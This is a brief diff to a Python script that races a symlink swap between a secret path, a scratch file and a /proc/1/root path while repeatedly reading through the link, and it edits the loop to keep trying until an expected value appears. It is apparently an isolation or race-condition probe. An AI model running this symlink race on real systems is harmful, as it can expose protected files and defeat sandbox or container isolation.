@@ -158,7 +158,9 @@ def swap():
         for target in (event['secret'], '/tmp/mine', '/proc/1/root' + event['secret']):
             os.symlink(target, '/tmp/next'); os.rename('/tmp/next', '/tmp/way')
 swapper = threading.Thread(target=swap); swapper.start()
-for _ in range(20_000):
+tries = 0
+while tries < 20_000 or 'own' not in seen:
+    tries += 1
     try: seen.add(open('/tmp/way/file').read())
     except OSError as error: seen.add(errno.errorcode[error.errno])
 stop = True; swapper.join()
